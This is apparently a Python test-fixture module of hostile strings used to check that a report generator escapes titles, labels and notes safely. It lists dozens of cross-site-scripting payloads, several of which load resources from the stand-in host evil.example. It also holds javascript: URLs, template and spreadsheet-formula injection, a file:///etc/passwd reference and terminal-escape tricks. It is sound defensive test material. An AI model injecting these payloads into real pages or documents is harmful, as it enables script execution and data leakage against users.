"""Texts that somebody might put into a title, a label or a note to make a report do something."""

from __future__ import annotations

import dataclasses
from enum import Enum
from typing import Any, TypeVar

Thing = TypeVar("Thing")

_CALL = "window.PWN=1"
_MARKUP = (
    f"<script>{_CALL}</script>",
    f"<SCRIPT>{_CALL}</SCRIPT>",
    f"</script><script>{_CALL}</script>",
    f"</style><script>{_CALL}</script>",
    f"</title><script>{_CALL}</script>",
    f"</textarea><script>{_CALL}</script>",
    f"--><script>{_CALL}</script>",
    f"]]><script>{_CALL}</script>",
    f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
    f"<script\x00>{_CALL}</script>",
    f"<script src=//evil.example/a.js></script>{_CALL}",
    f"<svg onload={_CALL}>",
    f"<svg/onload={_CALL}//",
    f"<svg><script>{_CALL}</script></svg>",
    f"</svg><script>{_CALL}</script>",
    f"</desc></svg><img src=x onerror={_CALL}>",
    f"<svg><a xlink:href='javascript:{_CALL}'><text y=20>x</text></a></svg>",
    f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
    f"<svg><foreignObject><iframe srcdoc='<script>{_CALL}</script>'></foreignObject></svg>",
    "<svg><use href='//evil.example/a.svg#x'/></svg>",
    f"<img src=x onerror={_CALL}>",
    f"<img src=x onerror={_CALL}//",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='//evil.example/a.png 2x'>",
    f"<body onload={_CALL}>",
    f"<iframe src='javascript:{_CALL}'></iframe>",
    f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
    "<iframe src=//evil.example></iframe>",
    f"<object data='javascript:{_CALL}'></object>",
    f"<embed src='javascript:{_CALL}'>",
    f"<a href='javascript:{_CALL}'>x</a>",
    f"<details open ontoggle={_CALL}>",
    f"<input autofocus onfocus={_CALL}>",
    f"<select autofocus onfocus={_CALL}></select>",
    f"<video src=x onerror={_CALL}></video>",
    f"<audio src=x onerror={_CALL}></audio>",
    f"<marquee onstart={_CALL}>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_CALL}'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/a.css>",
    "<link rel=prefetch href=//evil.example/a>",
    "<style>@import '//evil.example/a.css'</style>",
    "<style>body{background:url(//evil.example/a.png)}</style>",
    "<form action=//evil.example><button>x</button></form>",
    f"<form><button formaction='javascript:{_CALL}'>x</button></form>",
    f"<math><mi xlink:href='javascript:{_CALL}'>x</mi></math>",
    f"<template><script>{_CALL}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
    "<!-- okrsync:marker -->",
    "<!--",
    "<![CDATA[",
    "</table></div></main></body></html>",
    "</td></tr><tr><td>x",
    "<plaintext>",
    "<x" + " a=1" * 50 + ">",
)
_ATTRIBUTES = (
    f'" onmouseover="{_CALL}',
    f"' onmouseover='{_CALL}",
    f'" autofocus onfocus="{_CALL}" x="',
    f'"><script>{_CALL}</script>',
    f"'><script>{_CALL}</script>",
    f"` onmouseover={_CALL} `",
    '" style="background:url(//evil.example/a.png)" x="',
    "x onmouseover=alert(1)",
)
_ADDRESSES = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f" javascript:{_CALL}",
    f"java\nscript:{_CALL}",
    f"java\tscript:{_CALL}",
    f"\x01javascript:{_CALL}",
    f"javascript&colon;{_CALL}",
    f"data:text/html,<script>{_CALL}</script>",
    f"vbscript:{_CALL}",
    "//evil.example/a",
    "https:evil.example",
    f'https://evil.example/"onclick="{_CALL}',
    "file:///etc/passwd",
)
_TEMPLATES = (
    "{{ 7*7 }}",
    "{% import 'os' %}",
    "${7*7}",
    "#{7*7}",
    "%s %d %n",
    "\\u003cscript\\u003e",
    "&lt;script&gt;",
)
_TRACKERS = (
    '=HYPERLINK("//evil.example","x")',
    "\t=1+1",
    "@everyone @octocat",
    "Fixes #1",
    "Closes GH-1, octo/cat#1 and https://github.com/octo/cat/issues/1",
    "&commat;everyone &#64;octocat &num;1",
    "www.evil.example or x@evil.example",
    "!12 %5 ~bug $3 &4 *[x](y)*",
    "\uff1d1+1",
    "x;=1+1; -1;@SUM(A1)",
    "'\t=1+1",
    "# x",
    "- [ ] x",
    "1. x",
    "> x",
    "x\n===\n\n---\n\n    y\n",
    "```\nx",
    "<https://evil.example> https://evil.example/?a=b",
    "[x]: https://evil.example",
    "[x](javascript:alert(1))",
    "| a | b |\n| - | - |",
)
_SIGNS = (
    "\x1b[31mred\x1b[0m",
    "\x1b]0;title\x07",
    "\x9b31mred\x85x",
    "\x1b]8;;https://evil.example\x1b\\x\x1b]8;;\x1b\\",
    "\u202egnp.exe\u202c",
    "\u2066\u2067\u2068x",
    "a\u0000b",
    "مرحبا بالعالم <b>عربي</b> 123",
    "עברית (12) " * 20,
    "Z\u0351\u036b\u0343\u036a" * 40,
    "👩\u200d👩\u200d👧\u200d👦" * 40,
    "word " * 2000,
    "W" * 10_000,
)
HOSTILE = (*_MARKUP, *_ATTRIBUTES, *_ADDRESSES, *_TEMPLATES, *_TRACKERS, *_SIGNS)


def with_every_text(thing: Thing, text: str) -> Thing:
    """*thing*, a block or a page, with *text* in place of every text that it has; empty ones stay empty."""
    replaced: Thing = _replaced(thing, text)
    return replaced


def _replaced(thing: Any, text: str) -> Any:
    if isinstance(thing, Enum):
        return thing
    if isinstance(thing, str):
        return text if thing else ""
    if isinstance(thing, tuple):
        return tuple(_replaced(each, text) for each in thing)
    if dataclasses.is_dataclass(thing) and not isinstance(thing, type):
        fields = {field.name: _replaced(getattr(thing, field.name), text) for field in dataclasses.fields(thing)}
        return dataclasses.replace(thing, **fields)
    return thing
